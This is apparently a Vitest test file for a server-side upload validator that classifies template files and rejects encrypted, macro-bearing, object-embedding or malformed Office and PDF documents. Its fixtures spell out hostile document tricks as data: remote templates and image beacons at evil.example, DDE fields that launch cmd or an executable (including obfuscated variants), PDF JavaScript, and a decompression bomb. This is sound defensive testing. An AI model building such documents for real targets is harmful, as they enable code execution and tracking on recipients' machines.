import { describe, expect, test } from 'vitest';
import { readTemplateFile } from '#server/template/read-template-file.ts';
import {
  aCompound,
  aCurrentUser,
  aPackage,
  aPdf,
  aWordStream,
  aWordTable,
  aWorkbookStream,
  aZip,
} from '#testing/builders/office-builders.ts';

const codeOf = async (bytes: Buffer): Promise<string> => {
  const verdict = await readTemplateFile(bytes);
  return typeof verdict === 'string' ? verdict : verdict.code;
};
const macroType = (type: string) => `<Override PartName="/x" ContentType="application/vnd.${type}+xml"/>`;
const presentation = (bytes = Buffer.alloc(8), user = aCurrentUser()) =>
  aCompound({ 'PowerPoint Document': bytes, 'Current User': user });
const HTML = Buffer.from('<!doctype html><script>alert(1)</script>');
const macros = (isTrue: number) =>
  Buffer.from([0x1f, 0, 0xff, 3, 0x14, 0, 0, 0, 2, 0, 0, 4, 12, 0, 0, 0, 1, 0, 0, 0, isTrue, 0, 0, 0, 2, 0, 0, 0]);

/** Returns a document with the given XML at `path`, as a part beside the main one. */
const withPart = (
  xml: string | Buffer,
  { kind = 'docx', path = 'word/footer1.xml' }: { kind?: 'docx' | 'xlsx' | 'pptx'; path?: string } = {},
) => aPackage(kind, { more: [{ name: path, bytes: Buffer.from(xml) }] });
const withRelationship = (type: string, rest: string) =>
  withPart(
    `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${rest}/></Relationships>`,
    { path: 'word/_rels/settings.xml.rels' },
  );
const field = (...instructions: string[]) =>
  `<w:p>${['begin', ...instructions, 'end'].map((text) => (/^(begin|separate|end)$/.test(text) ? `<w:fldChar w:fldCharType="${text}"/>` : `<w:r><w:instrText>${text}</w:instrText></w:r>`)).join('')}</w:p>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

describe('detects the type of a file by its content', () => {
  test.each([
    ['pdf', aPdf()],
    ['docx', aPackage('docx')],
    ['xlsx', aPackage('xlsx')],
    ['pptx', aPackage('pptx')],
    ['doc', aCompound({ WordDocument: aWordStream() })],
    ['xls', aCompound({ Workbook: aWorkbookStream() })],
    ['xls', aCompound({ Workbook: aWorkbookStream(), Book: aWorkbookStream() })],
    ['ppt', presentation()],
    ['ppt', presentation(macros(0))],
    // Hyperlinks wait for a click. A template on the author's disk is found nowhere else. Other fields load nothing.
    ['docx', withRelationship('hyperlink', 'Target="https://example.com" TargetMode="External"')],
    ['docx', withRelationship('image', 'Target="media/image1.png"')],
    ['docx', withRelationship('attachedTemplate', 'Target="file:///C:\\Users\\a\\b.dotx" TargetMode="External"')],
    ['docx', withPart(field(' HYPERLINK "https://example.com/?q=DDE" ', 'separate') + '<w:t>DDEAUTO, LINK</w:t>')],
    ['docx', withPart(utf16(`<?xml version="1.0" encoding="utf-16"?>${field('PAGE')}`))],
    ['docx', withPart(Buffer.from([0x89, 0x50, 0x3c, 0x21, 0x44, 0x4f]), { path: 'word/media/image1.png' })],
    ['doc', aCompound({ WordDocument: aWordStream(0, '\u0013 HYPERLINK x\u0015'), '0Table': aWordTable('C:\\a.dot') })],
    [
      'xls',
      aCompound({
        Workbook: aWorkbookStream({
          links: [
            [2, 0, 1, 4],
            [1, 0, 1, 0x3a],
          ],
        }),
      }),
    ],
    ['xls', aCompound({ Book: aWorkbookStream({ links: [[6, 3, 83, 104, 101, 101, 116]] }, true) })],
  ])('%s', async (type, bytes) => expect(await codeOf(bytes)).toBe(type));
});

describe('rejects', () => {
  const wide = Buffer.alloc(60_000_000);
  test.each<[string, string, Buffer]>([
    ['a web page', 'file_type_must_be', HTML],
    ['nothing', 'file_type_must_be', Buffer.alloc(0)],
    ['a web page before a PDF', 'file_type_must_be', Buffer.concat([HTML, aPdf()])],
    ['a PDF with a space before it', 'file_type_must_be', Buffer.concat([Buffer.from(' '), aPdf()])],
    ['a zip archive of anything', 'file_type_must_be', aZip([{ name: 'a.txt', bytes: HTML }])],
    [
      'a document of another kind',
      'file_type_must_be',
      aPackage('docx', { types: macroType('ms-visio.drawing.main') }),
    ],
    ['an installer', 'file_type_must_be', aCompound({ '!Table': Buffer.alloc(8) })],
    ['a program', 'file_type_must_be', Buffer.from('MZ\u0090')],

    ['a PDF with a password', 'file_encrypted', aPdf({ trailer: '/Encrypt 9 0 R' })],
    ['a PDF with a password name in character codes', 'file_encrypted', aPdf({ trailer: '/#45ncrypt 9 0 R' })],
    ['a Word document with a password', 'file_encrypted', aCompound({ WordDocument: aWordStream(0x0100) })],
    ['a workbook with a password', 'file_encrypted', aCompound({ Workbook: aWorkbookStream({ hasPassword: true }) })],
    ['a presentation with a password', 'file_encrypted', presentation(undefined, aCurrentUser(0xf3d1c4df))],
    ['a newer document with a password', 'file_encrypted', aCompound({ EncryptedPackage: Buffer.alloc(8) })],
    [
      'an archive with a locked entry',
      'file_encrypted',
      aPackage('docx', { more: [{ name: 'x', bytes: HTML, isEncrypted: true }] }),
    ],

    [
      'a PDF with a script name in character codes',
      'file_has_macros',
      aPdf({ objects: '9 0 obj <</S /J#61vaScript /JS (app.alert\\(1\\))>> endobj\n' }),
    ],
    [
      'a document with macros under another name',
      'file_has_macros',
      aPackage('docx', { types: macroType('ms-word.document.macroEnabled.main') }),
    ],
    [
      'a document with a macro project, whatever its main part declares',
      'file_has_macros',
      aPackage('docx', { more: [{ name: 'word/vbaProject.bin', bytes: HTML }] }),
    ],
    [
      'a workbook with a macro sheet',
      'file_has_macros',
      aPackage('xlsx', { more: [{ name: 'xl/macrosheets/sheet1.xml', bytes: HTML }] }),
    ],
    ['an older document with macros', 'file_has_macros', aCompound({ WordDocument: aWordStream() }, ['Macros'])],
    [
      'an older workbook with macros',
      'file_has_macros',
      aCompound({ Workbook: aWorkbookStream() }, ['_VBA_PROJECT_CUR']),
    ],
    ['an older macro sheet', 'file_has_macros', aCompound({ Workbook: aWorkbookStream({ sheetKind: 1 }) })],
    ['an older presentation with macros', 'file_has_macros', presentation(macros(1))],
    [
      'a PDF with a script',
      'file_has_macros',
      aPdf({ objects: '4 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj\n' }),
    ],

    [
      'a document with an external template',
      'file_has_objects',
      withRelationship('attachedTemplate', 'Target="https://evil.example/t.dotm" TargetMode="External"'),
    ],
    [
      'a document with a template on a network share',
      'file_has_objects',
      withRelationship('attachedTemplate', 'Target="file:///\\\\evil\\t.dotm" TargetMode="External"'),
    ],
    [
      'a document with an external image',
      'file_has_objects',
      withRelationship('image', 'Target="https://evil.example/seen.png" TargetMode="External"'),
    ],
    [
      'a document with an object',
      'file_has_objects',
      withRelationship('oleObject', 'Target="embeddings/oleObject1.bin"'),
    ],
    ['a document with a text in another format', 'file_has_objects', withRelationship('aFChunk', 'Target="a.rtf"')],
    ['a document with a package as an object', 'file_has_objects', withPart('<o:OLEObject r:id="rId1"/>')],
    [
      'a slide with an object',
      'file_has_objects',
      withPart('<p:oleObj r:id="a"/>', { kind: 'pptx', path: 'ppt/slide1' }),
    ],
    [
      'a workbook with a link that starts a program',
      'file_has_objects',
      withPart('<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>', {
        kind: 'xlsx',
        path: 'xl/externalLinks/externalLink1.xml',
      }),
    ],
    [
      'a document with a field that starts a program',
      'file_has_objects',
      withPart(field('DDEAUTO c:\\x.exe', 'separate')),
    ],
    ['the same field in pieces', 'file_has_objects', withPart(field(' D', 'DE', 'AUT', 'O x '))],
    ['the same field in character codes', 'file_has_objects', withPart(field('&#68;&#x44;E x'))],
    ['the same field around another one', 'file_has_objects', withPart(field('DDE ', 'begin', 'QUOTE 67', 'end'))],
    ['the same field in one element', 'file_has_objects', withPart('<w:fldSimple w:instr=\' dde "x>" "y" \'/>')],
    ['the same field in UTF-16', 'file_has_objects', withPart(utf16(field('DDE x')))],
    ['the same field without a byte order mark', 'file_has_objects', withPart(Buffer.from(field('DDE x'), 'utf16le'))],
    [
      'the same field after very many spaces',
      'file_has_objects',
      aPackage('docx', { more: [{ name: 'a.xml', bytes: Buffer.from(' '.repeat(300_000) + field('DDE x')) }] }),
    ],
    [
      'an older document with a field that starts a program',
      'file_has_objects',
      aCompound({ WordDocument: aWordStream(0, '\u0013 DDEAUTO c:\\x.exe\u0015') }),
    ],
    [
      'the same field in UTF-16, in an older document',
      'file_has_objects',
      aCompound({ WordDocument: aWordStream(0, '\u0013\0 \0d\0d\0e\0 \0') }),
    ],
    [
      'an older document with an external template',
      'file_has_objects',
      aCompound({ WordDocument: aWordStream(0x0200), '1Table': aWordTable('\\\\evil\\t.dot') }),
    ],
    [
      'an older document with an object',
      'file_has_objects',
      aCompound({ WordDocument: aWordStream() }, ['\u0003ObjInfo']),
    ],
    [
      'an older workbook with an object',
      'file_has_objects',
      aCompound({ Workbook: aWorkbookStream() }, ['MBD00A1B2C3']),
    ],
    [
      'an older workbook with a link that starts a program',
      'file_has_objects',
      aCompound({ Workbook: aWorkbookStream({ links: [[0, 0, 5, 0, 0, 99, 109, 100, 3, 67]] }) }),
    ],
    [
      'the same link in a workbook of 1995',
      'file_has_objects',
      aCompound({ Book: aWorkbookStream({ links: [[5, 99, 109, 100, 3, 67]] }, true) }),
    ],
    [
      'an older presentation with an object',
      'file_has_objects',
      presentation(Buffer.from([0, 0, 0x0f, 0, 0xcc, 0x0f, 8, 0, 0, 0])),
    ],

    [
      'a document that defines its own entities',
      'file_unreadable',
      withPart('<!DOCTYPE a [<!ENTITY d "DDE">]><a>&d;</a>'),
    ],
    ['a document in another encoding', 'file_unreadable', withPart('<?xml version="1.0" encoding="utf-7"?><a/>')],
    ['a document with unclosed elements', 'file_unreadable', withPart('<a>'.repeat(1_001))],
    ['the beginning of a PDF', 'file_unreadable', aPdf().subarray(0, 100)],
    ['a PDF whose end points nowhere', 'file_unreadable', Buffer.from('%PDF-1.7\nx\nstartxref\n2\n%%EOF')],
    ['a web page after a PDF', 'file_unreadable', aPdf({ behind: `${'x'.repeat(2_000)}${HTML.toString()}` })],
    ['the beginning of a document', 'file_unreadable', aPackage('docx').subarray(0, 200)],
    ['an archive with two content type lists', 'file_unreadable', twoLists()],
    [
      'a document whose content type list hides something',
      'file_unreadable',
      aPackage('docx', { types: '<!DOCTYPE x>' }),
    ],
    ['a damaged document', 'file_unreadable', damaged(aPackage('docx', { more: [{ name: 'x', bytes: noise() }] }))],
    [
      'the beginning of an older document',
      'file_unreadable',
      aCompound({ WordDocument: aWordStream() }).subarray(0, 900),
    ],
    [
      'an older document that ends in the middle',
      'file_unreadable',
      aCompound({ WordDocument: aWordStream() }).subarray(0, 2_048),
    ],
    ['an older document with a wrong signature', 'file_unreadable', aCompound({ WordDocument: Buffer.alloc(32) })],
    ['an older document with a loop of sectors', 'file_unreadable', circle()],
    [
      'two documents in one',
      'file_unreadable',
      aCompound({ WordDocument: aWordStream(), Workbook: aWorkbookStream() }),
    ],

    [
      'a decompression bomb',
      'file_unfolds_too_far',
      aPackage('docx', {
        more: [
          { name: 'a', bytes: wide },
          { name: 'b', bytes: wide },
        ],
      }),
    ],
    [
      'a decompression bomb with a wrong declared size',
      'file_unreadable',
      aPackage('docx', { more: [{ name: 'a', bytes: wide, claimed: 9 }] }),
    ],
  ])('%s: %s', async (_what, code, bytes) => expect(await codeOf(bytes)).toBe(code));

  test('25 MB, but not one byte less', async () => {
    const pdfOf = (size: number) => aPdf({ objects: `%${'x'.repeat(size - aPdf().length - 2)}\n` });
    const limit = 25 * 1_048_576;
    // The object table has a higher offset in this large file. The offset has five more digits.
    const less = pdfOf(limit - 1 - 5);
    expect([less.length, await codeOf(less)]).toEqual([limit - 1, 'pdf']);
    expect(await codeOf(Buffer.concat([less, Buffer.from('\n')]))).toBe('file_must_be_under');
  });
});

function noise(): Buffer {
  return Buffer.from(Array.from({ length: 3_000 }, (_, at) => (at * at * 31 + at * 7) % 251));
}

/** Damages a package as a faulty transmission would: inverts bytes of the last entry. */
function damaged(bytes: Buffer): Buffer {
  const at = bytes.indexOf('PK\u0001\u0002') - 400;
  for (let one = at; one < at + 300; one += 1) bytes[one] = 255 - (bytes[one] ?? 0);
  return bytes;
}

function twoLists(): Buffer {
  return aPackage('docx', { more: [{ name: '[content_types].XML', bytes: HTML }] });
}

/** Returns a compound file in which the directory's chain of sectors is a loop. */
function circle(): Buffer {
  const bytes = aCompound({ WordDocument: aWordStream() });
  bytes.writeUInt32LE(1, 512 + 4);
  return bytes;
}
